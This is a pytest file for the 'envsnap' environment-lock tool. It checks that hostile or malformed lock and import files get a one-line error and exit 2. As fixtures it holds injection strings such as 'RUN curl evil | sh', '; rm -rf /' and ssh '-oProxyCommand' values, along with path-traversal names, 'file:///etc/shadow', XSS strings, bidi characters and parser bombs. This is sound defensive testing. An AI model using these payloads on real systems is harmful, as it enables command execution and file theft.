"""A lock or a file to import from a stranger: read within limits, every field checked against its grammar at
the boundary, so every command answers hostile input with one line and exit 2 (docs/security.md)."""

from __future__ import annotations

import dataclasses
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import tomli_w
from testutil import sample_lock, sample_python

from envsnap import lockfile
from envsnap.model import (
    Artifact,
    Conda,
    CondaPackage,
    Cpu,
    Cuda,
    CudaLibrary,
    Gpu,
    Hardware,
    Meta,
    Nvidia,
    Platform,
    PythonEnv,
    PythonPackage,
    Snapshot,
    Source,
    System,
    SystemPackage,
)

REPO = Path(__file__).resolve().parents[2]
SHA = "ab" * 32
WHEEL = "demo-1.0-py3-none-any.whl"


def base() -> Snapshot:
    """A small valid lock with every table a mutation below needs."""
    return sample_lock(
        envsnap=Meta(generator="envsnap 0.1.0", created="2026-11-30T08:00:00Z"),
        python=sample_python(
            executable="bin/python3",
            packages=(
                PythonPackage(
                    name="demo",
                    version="1.0",
                    installer="pip",
                    artifact=Artifact(filename=WHEEL, url=f"https://files.example.org/{WHEEL}", sha256=SHA, size=1000),
                ),
                PythonPackage(name="other", version="2.0", installer="pip"),
            ),
        ),
        system=System(
            manager="dpkg", packages=(SystemPackage(manager="dpkg", name="libc6", version="2.36-9", arch="amd64"),)
        ),
        hardware=Hardware(
            memory_mib=1024, cpu=Cpu(arch="x86_64", logical_cores=2), gpus=(Gpu(index=0, name="GPU", memory_mib=8192),)
        ),
        conda=Conda(
            subdir="linux-64",
            packages=(
                CondaPackage(
                    name="zlib",
                    version="1.3",
                    build="h0_0",
                    channel="https://conda.example.org/forge",
                    subdir="linux-64",
                    url="https://conda.example.org/forge/linux-64/zlib-1.3-h0_0.conda",
                    md5="0" * 32,
                ),
            ),
        ),
    )


def write_lock(path: Path, mutate: Callable[[dict[str, Any]], None] | None = None) -> Path:
    """The base lock's document, changed by ``mutate`` and sealed again: an attacker can recompute the digest,
    so only the field checks stand between the file and the commands."""
    doc = lockfile.sealed_document(base())
    if mutate is not None:
        mutate(doc)
        doc["envsnap"]["content_digest"] = lockfile.canonical_digest(doc)
    path.write_text(tomli_w.dumps(doc), encoding="utf-8")
    return path


def one_line_exit_2(result: Any, *needles: str) -> None:
    assert result.code == 2, result
    assert result.err.count("\n") == 1 and result.err.startswith("envsnap: error: "), result
    assert "Traceback" not in result.err
    for needle in needles:
        assert needle in result.err, result


def table(**changes: Any) -> Any:
    """One table of the base lock with ``changes`` made, as the lock's document holds it."""
    (name,) = changes
    return lockfile.to_dict(dataclasses.replace(base(), **changes))[name]


def pkg(doc: dict[str, Any], i: int = 0) -> dict[str, Any]:
    package: dict[str, Any] = doc["python"]["packages"][i]
    return package


# ------------------------------------------------------------------------------------------ bounded reading


def _run(*args: str, timeout: float = 60, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    environ = {**os.environ, "PYTHONPATH": str(REPO), **(env or {})}
    return subprocess.run(
        [sys.executable, "-m", "envsnap", *args], capture_output=True, text=True, timeout=timeout, env=environ
    )


def test_a_fifo_is_refused_without_hanging(tmp_path: Path) -> None:
    fifo = tmp_path / "envsnap.lock"
    os.mkfifo(fifo)
    done = _run("show", str(fifo), timeout=60)  # the old reader blocked forever on open()
    assert done.returncode == 2 and "not a regular file" in done.stderr and done.stderr.count("\n") == 1


def test_an_endless_device_is_refused_without_reading_it() -> None:
    done = _run("show", "/dev/zero", timeout=60)  # the old reader read until memory ran out
    assert done.returncode == 2 and "not a regular file" in done.stderr


def test_a_lock_over_the_size_limit_is_refused(
    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_lock(tmp_path / "envsnap.lock")
    assert cli("show", path).code == 0
    monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "500")
    one_line_exit_2(cli("show", path), "over the limit of 500 bytes", "ENVSNAP_MAX_LOCK_BYTES")
    # Its size, as the file has it: "more than 21380973 bytes" named the exact size of a 21 MB lock as a bound.
    said = cli("show", path).err
    assert f"{path}: {path.stat().st_size} bytes is over the limit of 500 bytes" in said, said
    monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "lots")
    one_line_exit_2(cli("show", path), "ENVSNAP_MAX_LOCK_BYTES='lots': not a number of bytes")


def test_an_import_file_over_the_size_limit_is_refused(
    tmp_path: Path, cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "requirements.txt"
    path.write_text("demo==1.0 --hash=sha256:" + SHA + "\n" + "# padding\n" * 100)
    monkeypatch.setenv("ENVSNAP_MAX_LOCK_BYTES", "200")
    one_line_exit_2(cli("import", path, "-o", tmp_path / "out.lock"), "over the limit of 200 bytes")


# ------------------------------------------------------------------------- parser bombs before tomllib


def test_a_dotted_key_bomb_is_refused_quickly(tmp_path: Path, cli: Callable[..., Any]) -> None:
    path = tmp_path / "envsnap.lock"
    path.write_text("a" + ".a" * 20_000 + " = 1\n")  # 40 KB: 15 s and 2.4 GB in tomllib
    start = time.monotonic()
    one_line_exit_2(cli("show", path), "a dotted key of more than 16 parts")
    assert time.monotonic() - start < 5


@pytest.mark.parametrize("value", ["[" * 3000 + "]" * 3000, "{a=" * 3000 + "1" + "}" * 3000])
def test_deep_nesting_is_refused(tmp_path: Path, cli: Callable[..., Any], value: str) -> None:
    path = tmp_path / "envsnap.lock"
    path.write_text(f"x = {value}\n")  # RecursionError in tomllib
    one_line_exit_2(cli("check", path), "nested more than 32 levels deep")


def test_a_number_of_thousands_of_digits_is_refused(tmp_path: Path, cli: Callable[..., Any]) -> None:
    path = write_lock(tmp_path / "envsnap.lock")
    text = path.read_text().replace("memory_mib = 1024", "memory_mib = " + "9" * 5000)
    path.write_text(text)
    one_line_exit_2(cli("show", path), "a number of more than 64 digits")


def test_quotes_and_comments_do_not_fool_the_guard(tmp_path: Path, cli: Callable[..., Any]) -> None:
    # Brackets and dots inside strings and comments are not structure: a valid lock holding many stays valid.
    def many(doc: dict[str, Any]) -> None:
        doc["envsnap"]["warnings"] = ["[" * 100 + "." * 100 + "9" * 100]

    path = write_lock(tmp_path / "envsnap.lock", many)
    path.write_text(path.read_text() + "# " + "[" * 100 + "\n")
    assert cli("show", path).code == 0


# ---------------------------------------------------------------------------------------- field grammar


@pytest.mark.parametrize(
    ("mutate", "needle"),
    [
        (
            lambda d: pkg(d).update(version="1.0\n--find-links http://127.0.0.1:8000/"),
            "python.packages[0].version: not a valid version",
        ),
        (lambda d: pkg(d).update(name="demo\x00x"), "python.packages[0].name: not a valid distribution name"),
        (lambda d: pkg(d).update(name="Demo_Pkg"), "python.packages[0].name: not a valid distribution name"),
        (
            lambda d: pkg(d)["artifact"].update(filename="../../../../.bashrc"),
            "python.packages[0].artifact.filename: not a valid file name",
        ),
        (
            lambda d: pkg(d)["artifact"].update(filename="x/../../evil-1.0-py3-none-any.whl"),
            "artifact.filename: not a valid file name",
        ),
        (lambda d: pkg(d)["artifact"].update(sha256="AB" * 32), "artifact.sha256: not a valid sha256"),
        (lambda d: pkg(d)["artifact"].update(url="file:///etc/shadow\n"), "artifact.url: not a valid URL"),
        (lambda d: pkg(d)["artifact"].update(url="javascript:alert(1)"), "artifact.url: not a valid URL"),
        # A file URL's authority is a host or none (RFC 8089): the message named only the scheme, spaces and controls.
        (
            lambda d: pkg(d)["artifact"].update(url="file://https://x/y.whl"),
            "artifact.url: not a valid URL (a file URL's authority is a host or none, not 'https:': a local file is "
            "file:///PATH): 'file://https://x/y.whl'",
        ),
        # A conda channel named the rules it keeps, "(a URL or a name)": the one it breaks, as a URL does.
        (
            lambda d: d["conda"].update(channels=["file://https://x/forge"]),
            "conda.channels[0]: not a valid conda channel (a file URL's authority is a host or none, not 'https:': a "
            "local file is file:///PATH): 'file://https://x/forge'",
        ),
        # A bidirectional formatting character (which no IRI may hold, RFC 3987) reached requirements.txt and
        # pylock.toml raw, where an editor shows the URL reordered ("Trojan Source").
        (
            lambda d: pkg(d)["artifact"].update(url="https://files.example.org/\u202elhw.x/demo-1.0.whl"),
            "artifact.url: not a valid URL",
        ),
        (lambda d: pkg(d)["artifact"].update(index="https://pypi.org/simple\u2067"), "artifact.index: not a valid"),
        (lambda d: pkg(d)["artifact"].update(size=10**30), "artifact.size: not a valid number"),
        (lambda d: d["hardware"].update(memory_mib=2**62), "hardware.memory_mib: not a valid number"),
        (lambda d: d["hardware"]["gpus"][0].update(memory_mib=-1), "hardware.gpus[0].memory_mib"),
        (
            lambda d: d["envsnap"].update(created="2026\nRUN curl evil | sh\n#"),
            "envsnap.created: not a valid timestamp",
        ),
        # The shape of RFC 3339, not a moment: reached the Dockerfile (SOURCE_DATE_EPOCH=0), and an export of an
        # upload time past the last UTC moment Python holds ended in a traceback.
        (lambda d: d["envsnap"].update(created="2026-02-30T00:00:00Z"), "envsnap.created: not a valid timestamp"),
        (lambda d: d["envsnap"].update(created="2026-12-01T25:61:61Z"), "envsnap.created: not a valid timestamp"),
        (lambda d: d["envsnap"].update(created="0000-00-00T00:00:00Z"), "envsnap.created: not a valid timestamp"),
        (lambda d: d["envsnap"].update(created="2026-12-01T10:00:00+24:00"), "envsnap.created: not a valid"),
        (
            lambda d: pkg(d)["artifact"].update(upload_time="9999-12-31T23:59:59-23:59"),
            "artifact.upload_time: not a valid timestamp",
        ),
        (
            lambda d: pkg(d)["artifact"].update(upload_time="0001-01-01T00:00:00+23:59"),
            "artifact.upload_time: not a valid timestamp",
        ),
        (lambda d: d["envsnap"].update(generator="<script>alert(1)</script>"), "envsnap.generator"),
        # Every text of a lock is bounded: a 100,000-character metadata_name was taken.
        (lambda d: pkg(d).update(metadata_name="A" * 100_000), "python.packages[0].metadata_name: not a valid"),
        (lambda d: pkg(d).update(name="a" * 256), "python.packages[0].name: not a valid distribution name"),
        (lambda d: d["conda"]["packages"][0].update(name="a" * 256), "conda.packages[0].name"),
        (lambda d: d["python"].update(version="--mirror=http://127.0.0.1:9/"), "python.version: not a valid Python"),
        (lambda d: d["python"].update(version="tools/python3.11"), "python.version: not a valid Python"),
        (lambda d: d["python"].update(kind="venv\nRUN id"), "python.kind: not a valid value (one of"),
        (lambda d: pkg(d).update(source={"kind": "tarball"}), "python.packages[0].source.kind"),
        # A host or login that begins with '-' is an option to the ssh git runs (CVE-2017-1000117): no real host.
        *(
            (
                lambda d, url=url: pkg(d).update(
                    source={"kind": "vcs", "url": url, "vcs": "git", "commit_id": "a" * 40}
                ),
                "python.packages[0].source.url: not a valid URL",
            )
            for url in ("ssh://-oProxyCommand=touch%20x/r.git", "git+ssh://git@-oProxyCommand=id/r.git")
        ),
        (lambda d: pkg(d)["artifact"].update(url="https://-oProxy/x.whl"), "artifact.url: not a valid URL"),
        (
            lambda d: pkg(d).update(
                source={
                    "kind": "vcs",
                    "url": "https://example.org/x.git",
                    "vcs": "git",
                    "commit_id": "--upload-pack=touch /tmp/x",
                }
            ),
            "source.commit_id",
        ),
        (
            lambda d: pkg(d).update(
                source={
                    "kind": "vcs",
                    "url": "https://example.org/x.git",
                    "vcs": "git",
                    "commit_id": "a" * 40,
                    "subdirectory": "../../etc",
                }
            ),
            "source.subdirectory",
        ),
        # A conda package's recorded version is one version, never a MatchSpec: environment-yml wrote "1.*" as
        # zlib=1.*=h0_0, which conda reads as any 1.x.
        (lambda d: d["conda"]["packages"][0].update(version="1.*"), "conda.packages[0].version: not a valid conda"),
        (lambda d: d["conda"]["packages"][0].update(version="*"), "conda.packages[0].version: not a valid conda"),
        (lambda d: d["conda"]["packages"][0].update(version="1.3*"), "conda.packages[0].version: not a valid conda"),
        (lambda d: pkg(d).update(wheel_tags=["py3-none-any\n"]), "python.packages[0].wheel_tags[0]"),
        (lambda d: d["system"]["packages"][0].update(version="2.36 ; rm -rf /"), "system.packages[0].version"),
        (lambda d: d["system"]["packages"][0].update(manager="pacman"), "system.packages[0].manager"),
        (lambda d: d["conda"]["packages"][0].update(md5="x" * 32), "conda.packages[0].md5"),
        (lambda d: d["conda"]["packages"][0].update(subdir="linux-64\n@EXPLICIT"), "conda.packages[0].subdir"),
        (lambda d: d["conda"]["packages"][0].update(noarch="anything"), "conda.packages[0].noarch"),
        (lambda d: d["conda"]["packages"][0].update(build_number=2**63), "conda.packages[0].build_number"),
        (lambda d: d.update(environment={"A B": "1"}), "environment: not a valid variable name"),
        (lambda d: d.update(environment={"X": "\x1b]8;;https://evil/\x1b\\"}), "environment.X: not a valid text"),
        (lambda d: d["platform"].update(kernel="6.1[/]"), "platform.kernel"),
        # Written raw into pylock.toml, where an editor showed them reordered (a valid '===' specifier may hold
        # any character but whitespace): an installer's name and a Requires-Python are printable ASCII.
        (lambda d: pkg(d).update(installer="pip\u202e"), "python.packages[0].installer: not a valid installer"),
        (lambda d: pkg(d).update(installer="uv\u2028"), "python.packages[0].installer: not a valid installer"),
        (
            lambda d: pkg(d).update(requires_python="===3.11\u202e"),
            "python.packages[0].requires_python: not a valid Requires-Python",
        ),
        (
            lambda d: pkg(d).update(requires_python=">=3.9\u2067,<4"),
            "python.packages[0].requires_python: not a valid Requires-Python",
        ),
        # A GPU's NVML UUID and board serial were free text: "GPU-\u202e..." or a Markdown row reached show --json and
        # envsnap.lock.json as the lock's writer chose. They have NVML's forms (GPU-/MIG- and 8-4-4-4-12 hex; a
        # serial of letters and digits).
        (
            lambda d: d["hardware"]["gpus"][0].update(uuid="GPU-\u202e6a5b4c3d"),
            "hardware.gpus[0].uuid: not a valid GPU",
        ),
        (lambda d: d["hardware"]["gpus"][0].update(uuid="GPU-0 | **x** |"), "hardware.gpus[0].uuid: not a valid GPU"),
        (lambda d: d["hardware"]["gpus"][0].update(uuid="0"), "hardware.gpus[0].uuid: not a valid GPU UUID"),
        (lambda d: d["hardware"]["gpus"][0].update(serial="1654922\u2028# x"), "hardware.gpus[0].serial: not a valid"),
        (lambda d: d["hardware"]["gpus"][0].update(serial="--serial=1"), "hardware.gpus[0].serial: not a valid GPU"),
        # Free text of a known shape (a path, an error message, a Requires-Dist line) held a bidi formatting
        # character or a line separator, which show --json and envsnap.lock.json (and the lock itself) showed
        # reordered or broken: one line as shown, like a URL.
        (
            lambda d: d["system"].update(libraries=[{"soname": "libz.so.1", "path": "/usr/lib/\u202e1.os.zbil"}]),
            "system.libraries[0].path: not a valid text (one line",
        ),
        (lambda d: d.update(cuda=table(cuda=Cuda(toolkit_path="/usr/local/cuda\u2067"))), "cuda.toolkit_path: not a"),
        (
            lambda d: d.update(
                cuda=table(
                    cuda=Cuda(
                        copies=(CudaLibrary(component="runtime", version="12.1", source="system", location="/x\u2028"),)
                    )
                )
            ),
            "cuda.copies[0].location: not a valid text",
        ),
        (
            lambda d: d.update(nvidia=table(nvidia=Nvidia(error="nvmlInit: \u202eUnknown"))),
            "nvidia.error: not a valid text",
        ),
        (
            lambda d: d.update(frameworks={"torch": {"name": "torch", "error": "import failed\u2029## x"}}),
            "frameworks.torch.error: not a valid text",
        ),
        (lambda d: pkg(d).update(requires_dist=["numpy ===1.0\u202e"]), "python.packages[0].requires_dist[0]: not a"),
    ],
)
def test_a_field_outside_its_grammar_is_named_by_path(
    tmp_path: Path, cli: Callable[..., Any], mutate: Callable[[dict[str, Any]], None], needle: str
) -> None:
    path = write_lock(tmp_path / "envsnap.lock", mutate)
    result = cli("show", path)
    one_line_exit_2(result, needle)
    assert "\x1b" not in result.err and "\x00" not in result.err  # shown escaped, never raw


@pytest.mark.parametrize(
    "command",
    [
        ["show"],
        ["show", "--json"],
        ["check"],
        ["export", "-f", "requirements", "-o", "-"],
        ["export", "-f", "markdown", "-o", "-"],
        ["export", "-f", "pylock", "-o", "-"],
        ["rebuild", "--dry-run", "--target", "venv"],
        ["pin", "-o", "/dev/null"],
    ],
)
def test_a_nul_in_a_name_is_one_line_in_every_command(
    tmp_path: Path, cli: Callable[..., Any], command: list[str]
) -> None:
    # "embedded null byte" tracebacks in pin and the exports before
    path = write_lock(tmp_path / "envsnap.lock", lambda d: pkg(d)["artifact"].update(filename="demo\x00.whl"))
    one_line_exit_2(cli(*command[:1], path, *command[1:]), "artifact.filename")


@pytest.mark.parametrize("command", [["export", "-f", "markdown", "-o", "-"], ["check"], ["show"]])
def test_a_huge_integer_is_one_line_not_an_overflow(
    tmp_path: Path, cli: Callable[..., Any], command: list[str]
) -> None:
    # OverflowError in the appendix and the disk rules before
    path = write_lock(tmp_path / "envsnap.lock", lambda d: pkg(d)["artifact"].update(size=10**40))
    one_line_exit_2(cli(*command[:1], path, *command[1:]), "python.packages[0].artifact.size")


@pytest.mark.parametrize(("libc", "version"), [("glibc", "2.999999999"), ("musl", "1.999999999"), ("glibc", "2.x")])
@pytest.mark.parametrize(
    "command", [["pin", "-o", "/dev/null"], ["rebuild", "--target", "docker", "--dry-run"], ["check"], ["show"]]
)
def test_a_libc_version_outside_its_grammar_is_one_line_not_a_hang(
    tmp_path: Path, command: list[str], libc: str, version: str
) -> None:
    # pin and the docker target walked every glibc or musl minor from the lock's down to 0, a stranger's 2.999999999
    # a billion of them: no answer in minutes
    path = write_lock(tmp_path / "envsnap.lock", lambda d: d["platform"].update(libc=libc, libc_version=version))
    result = _run(*command[:1], str(path), *command[1:], timeout=60)
    assert result.returncode == 2, result
    assert result.stderr == (
        f"envsnap: error: {path}: platform.libc_version: not a valid C library version (digits and dots, e.g. 2.36 "
        f"or 1.2.4; the first two numbers of at most 3 digits each): {version!r}\n"
    )


@pytest.mark.parametrize("libc", ["glibc", "musl"])
def test_the_largest_libc_version_is_pinned_and_checked_in_time(tmp_path: Path, libc: str) -> None:
    path = write_lock(tmp_path / "envsnap.lock", lambda d: d["platform"].update(libc=libc, libc_version="999.999.99"))
    started = time.monotonic()
    for command in (["pin", "-o", str(tmp_path / "pinned.lock")], ["check", "--target", "docker"]):
        result = _run(command[0], str(path), *command[1:], timeout=60)
        assert result.returncode in (0, 1, 3) and "Traceback" not in result.stderr, result
    assert time.monotonic() - started < 30


@pytest.mark.parametrize("version", ["999999999.0", "10.999999999"])
def test_a_macos_version_of_a_billion_releases_is_pinned_in_time(tmp_path: Path, version: str) -> None:
    # pin listed every macOS release from the lock's os_version down to 10.0 as a platform its wheels may have:
    # a stranger's 999999999.0 kept pin, bundle and rebuild busy with no answer in minutes. No macOS is numbered so;
    # the version is taken as unknown, as for a lock that records none.
    def darwin(d: dict[str, Any]) -> None:
        d["platform"].update(system="Darwin", machine="arm64", os_version=version, libc="", libc_version="")
        d["python"].update(platform_tag="macosx-11.0-arm64")

    path = write_lock(tmp_path / "envsnap.lock", darwin)
    result = _run("pin", str(path), "-o", str(tmp_path / "pinned.lock"), timeout=30)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result


@pytest.mark.parametrize(
    ("mutate", "needle"),
    [
        (lambda d: d["python"]["packages"].append(dict(pkg(d))), "python.packages[2]: package 'demo' appears twice"),
        (lambda d: d["system"]["packages"].append(dict(d["system"]["packages"][0])), "system package"),
        (lambda d: d["hardware"]["gpus"].append({"index": 0}), "hardware.gpus[1]: GPU index '0' appears twice"),
        (lambda d: d["conda"]["packages"].append(dict(d["conda"]["packages"][0])), "conda package 'zlib'"),
        (lambda d: d.update(frameworks={"torch": {"name": "jax"}}), "frameworks.torch.name"),
    ],
)
def test_duplicates_are_refused(
    tmp_path: Path, cli: Callable[..., Any], mutate: Callable[[dict[str, Any]], None], needle: str
) -> None:
    path = write_lock(tmp_path / "envsnap.lock", mutate)
    for command in (["show"], ["export", "-f", "requirements", "-o", "-"]):
        one_line_exit_2(cli(command[0], path, *command[1:]), needle)


@pytest.mark.parametrize(
    ("installer", "requires_python"),
    [
        ("pip", ">=3.8"),
        ("uv", ">=3.7,<4"),
        ("conda", ">=2.7, !=3.0.*, !=3.1.*, !=3.2.*"),
        ("Poetry 1.8.3", "~=3.10"),
        ("debian", ">=3.8,"),
        # Not PEP 440 (packaging refuses them), yet in real METADATA: kept, and check warns it cannot read them.
        ("pip", ">=3.6.*"),
        ("pip", "3.6"),
    ],
)
def test_real_installers_and_requires_python_load(
    tmp_path: Path, cli: Callable[..., Any], installer: str, requires_python: str
) -> None:
    path = write_lock(
        tmp_path / "envsnap.lock", lambda d: pkg(d).update(installer=installer, requires_python=requires_python)
    )
    assert cli("show", path).code == 0


def _conda_depends(d: dict[str, Any], *specs: str) -> None:
    d["conda"]["packages"][0]["depends"] = list(specs)


# A conda package's depends are MatchSpecs: a name (a channel before it), a version spec and a build string.
# Anything else became a dependency's name in conda-lock.yml (`dep ## H`, `evil: x`) or showed reordered.
@pytest.mark.parametrize(
    "spec",
    [
        "dep ## H",
        "evil: 1.0",
        "a:b",
        "x 1.0\u202e",
        "x >=1\u2028y",
        "x \u00a0>=1",
        " x",
        "x ",
        "-x >=1",
        "x >=1 # comment",
        "x [version=1]{}",
        "",
    ],
)
def test_a_conda_depends_entry_outside_matchspec_is_refused(tmp_path: Path, cli: Callable[..., Any], spec: str) -> None:
    path = write_lock(tmp_path / "envsnap.lock", lambda d: _conda_depends(d, "libgcc-ng >=12", spec))
    one_line_exit_2(cli("show", path), "conda.packages[0].depends[1]: not a valid conda dependency")


# What real conda-meta records hold in `depends` (conda-forge, defaults, old channels, conda-lock's own imports).
REAL_CONDA_DEPENDS = [
    "python >=3.11,<3.12.0a0",
    "libgcc-ng >=12",
    "__glibc >=2.17,<3.0.a0",
    "python_abi 3.11.* *_cp311",
    "libzlib 1.3.2 h25fd6f3_2",
    "_openmp_mutex >=4.5",
    "_libgcc_mutex 0.1 conda_forge",
    "libabseil * cxx17*",
    "x264 >=1!164.3095,<1!165",
    "pyzmq >=13.1.0,!=23.0.0",
    "numpy >=1.16,<1.17|>=1.17",
    "python 3.6*",
    "depend > 1.1.1",
    "blas * mkl",
    "tzdata",
    "__archspec 1 x86_64_v3",
    "conda-forge::__glibc <2",
    "pkgs/main::python >=3.8",
    "jpeg >=9e,<10a",
    "openssl !=1.1.1e",
    "typing_extensions ~=4.0",
    "numpy[version='>=1.21,<3']",
    "python >=3.9,<3.10.0a0 *_cpython",
]


def test_real_conda_depends_load(tmp_path: Path, cli: Callable[..., Any]) -> None:
    path = write_lock(tmp_path / "envsnap.lock", lambda d: _conda_depends(d, *REAL_CONDA_DEPENDS))
    result = cli("show", path)
    assert result.code == 0, result
    assert lockfile.load(path).conda.packages[0].depends == tuple(REAL_CONDA_DEPENDS)  # type: ignore[union-attr]


@pytest.mark.parametrize("version", ["1.3.1", "1!164.3095", "2024a", "9e", "1.0.0_rc1", "0.4.0.post1+lo", "3.11.7-1"])
def test_real_conda_versions_load(tmp_path: Path, cli: Callable[..., Any], version: str) -> None:
    path = write_lock(tmp_path / "envsnap.lock", lambda d: d["conda"]["packages"][0].update(version=version))
    assert cli("show", path).code == 0


@pytest.mark.parametrize(
    ("uuid", "serial"),
    [
        ("GPU-5d1e2c3b-0a9f-4e6d-8c7b-1f2e3d4c5b6a", "1654922001234"),  # nvmlDeviceGetUUID, nvmlDeviceGetSerial
        ("GPU-8932F937-D72C-4106-C12F-20BD9FAED9F6", "0324318039581"),
        ("MIG-c6d4f1ef-42e4-5de3-91c7-45d71c87eb3f", ""),  # a MIG device (R470 and later)
        ("MIG-GPU-5d1e2c3b-0a9f-4e6d-8c7b-1f2e3d4c5b6a/1/0", ""),  # a MIG device before R470
        ("", ""),  # captured without --gpu-ids, or NVML does not say (a GeForce has no serial)
    ],
)
def test_real_gpu_ids_load(tmp_path: Path, cli: Callable[..., Any], uuid: str, serial: str) -> None:
    ids = {k: v for k, v in (("uuid", uuid), ("serial", serial)) if v}  # a lock leaves an empty field out
    path = write_lock(tmp_path / "envsnap.lock", lambda d: d["hardware"]["gpus"][0].update(ids))
    assert cli("show", path).code == 0


def test_created_is_outside_the_digest_but_still_checked(tmp_path: Path, cli: Callable[..., Any]) -> None:
    path = write_lock(tmp_path / "envsnap.lock")
    text = path.read_text()
    # A later time keeps the digest (created is not sealed); a line break is refused, sealed or not.
    path.write_text(text.replace('created = "2026-11-30T08:00:00Z"', 'created = "2027-01-01T00:00:00+01:00"'))
    assert cli("show", path).code == 0
    path.write_text(text.replace('created = "2026-11-30T08:00:00Z"', 'created = "2026\\nRUN id"'))
    one_line_exit_2(cli("show", path), "envsnap.created: not a valid timestamp", "'2026\\nRUN id'")


# ------------------------------------------------------------------------------------- legacy versions


def test_a_legacy_version_is_kept_but_never_pinned_or_rebuilt(tmp_path: Path, cli: Callable[..., Any]) -> None:
    path = write_lock(tmp_path / "envsnap.lock", lambda d: pkg(d, 1).update(version="2.0-beta_final"))
    lock = lockfile.load(path)
    other = lock.package("other")
    assert other is not None and other.legacy_version and other.version == "2.0-beta_final"
    demo = lock.package("demo")
    assert demo is not None and not demo.legacy_version
    assert cli("show", path).code == 0
    one_line_exit_2(
        cli("rebuild", path, "--dry-run", "--target", "venv", "--dest", tmp_path / "env"),
        "other '2.0-beta_final': not a PEP 440 version",
    )


def test_pin_reports_a_legacy_version_unpinned_without_asking_an_index() -> None:
    from envsnap.artifacts.pin import Pinner

    lock = base()
    legacy = dataclasses.replace(lock.python.packages[1], version="2.0-beta_final")
    outcome = Pinner.pin_one(object.__new__(Pinner), legacy)  # no index is configured: none may be asked
    assert outcome.status == "unpinned" and "not a PEP 440 version" in outcome.reason


# ------------------------------------------------------------------------------------------- importers


@pytest.mark.parametrize(
    ("name", "text", "needle"),
    [
        (
            "pylock.toml",
            "lock-version = '1.0'\n[[packages]]\nname = 'a'\nx = " + "[" * 3000 + "]" * 3000,
            "nested more than 32 levels deep",
        ),
        (
            "pylock.toml",
            "lock-version = '1.0'\n" + "a" + ".a" * 20_000 + " = 1\n[[packages]]\n",
            "a dotted key of more than 16 parts",
        ),
        (
            "envsnap.lock.json",
            '{"envsnap": {"schema_version": 1}, "x": ' + "[" * 3000 + "]" * 3000 + "}",
            "nested more than 32 levels deep",
        ),
        ("envsnap.lock.json", '{"envsnap": {"schema_version": 1, "schema_version": 1}}', "appears twice"),
        (
            "conda-lock.yml",
            "version: 1\nmetadata: &a {platforms: [linux-64]}\npackage: []\nx: *a\nmanager: conda\n",
            "aliases (*name) are not allowed",
        ),
        (
            "conda-lock.yml",
            "version: 1\npackage:\n- " + "[" * 200 + "]" * 200 + "\nmanager: x\n",
            "nested more than 32 levels deep",
        ),
        ("conda-lock.yml", "version: " + "9" * 5000 + "\npackage: []\nmanager: x\n", "an integer too long"),
        # PyYAML keeps the last of a key given twice: the package's version (or the whole package list) was read
        # from the second one, silently. An ambiguous document is refused, as TOML and the JSON import refuse it.
        (
            "conda-lock.yml",
            "version: 1\nmetadata: {platforms: [linux-64]}\npackage:\n- name: demo\n  version: 1.0\n"
            "  version: 9.9\n  manager: pip\n  platform: linux-64\n",
            "not valid YAML: key 'version' appears twice (line 6, column 3)",
        ),
        (
            "conda-lock.yml",
            "version: 1\npackage: []\nmanager: x\npackage:\n- {name: demo, version: 1.0, manager: pip}\n",
            "not valid YAML: key 'package' appears twice (line 4, column 1)",
        ),
        (
            "explicit.txt",
            "@EXPLICIT\nhttps://conda.example.org/c/linux-64/zlib-1.3-h0_0.conda#"
            + "0" * 32
            + "\nhttps://conda.example.org/c/linux-64%0a/x\x1b[31m-1-h_0.conda\n",
            "conda",
        ),
        ("requirements.txt", "demo===1.0&&id --hash=sha256:" + SHA + "\n", "python.packages[0].version"),
        # found by the fuzzer: a --hash continuation line whose requirement line lost its backslash (IndexError)
        ("requirements.txt", "demo==1.0\n    --hash=sha256:" + SHA + "\n", "--hash without a requirement"),
    ],
)
def test_a_hostile_import_file_is_one_line(
    tmp_path: Path, cli: Callable[..., Any], name: str, text: str, needle: str
) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    result = cli("import", path, "-o", tmp_path / "out.lock")
    one_line_exit_2(result, needle)
    assert not (tmp_path / "out.lock").exists()


def test_an_imported_duplicate_or_bad_value_is_refused(tmp_path: Path, cli: Callable[..., Any]) -> None:
    # conda explicit: the same package twice (two environments in one?), and a file name with a newline
    path = tmp_path / "explicit.txt"
    url = "https://conda.example.org/c/linux-64/zlib-1.3-h0_0.conda#" + "0" * 32
    path.write_text(f"@EXPLICIT\n{url}\n{url}\n")
    one_line_exit_2(cli("import", path, "-o", tmp_path / "out.lock"), "conda package 'zlib' appears twice")


def _bounded_memory() -> None:
    import resource

    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_rebuild_from_a_bundle_folder_refuses_a_fifo_or_device_lock(tmp_path: Path, kind: str) -> None:
    # rebuild --bundle DIR fingerprints the lock before its checks, to begin the last rebuild's installer: that
    # read blocked for ever on a FIFO and read /dev/zero until memory ran out (a MemoryError traceback)
    bundle = tmp_path / "supp"
    bundle.mkdir()
    lock = tmp_path / "envsnap.lock"
    if kind == "fifo":
        os.mkfifo(lock)
    env = {"XDG_CACHE_HOME": str(tmp_path / "cache")}
    target = str(lock) if kind == "fifo" else "/dev/zero"
    done = subprocess.run(
        [sys.executable, "-m", "envsnap", "rebuild", target, "--bundle", str(bundle), "--dest", str(tmp_path / "env")],
        capture_output=True,
        text=True,
        timeout=30,
        env={**os.environ, "PYTHONPATH": str(REPO), **env},
        preexec_fn=_bounded_memory,  # the old read of /dev/zero ran until memory ran out: not on a shared machine
    )
    assert done.returncode == 2 and "not a regular file" in done.stderr, done
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert not (tmp_path / "env").exists()


def test_a_fifo_to_import_is_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "requirements.txt"
    os.mkfifo(fifo)
    done = _run("import", str(fifo), "-o", str(tmp_path / "out.lock"), timeout=60)
    assert done.returncode == 2 and "not a regular file" in done.stderr


def test_every_model_field_has_a_grammar() -> None:
    import typing

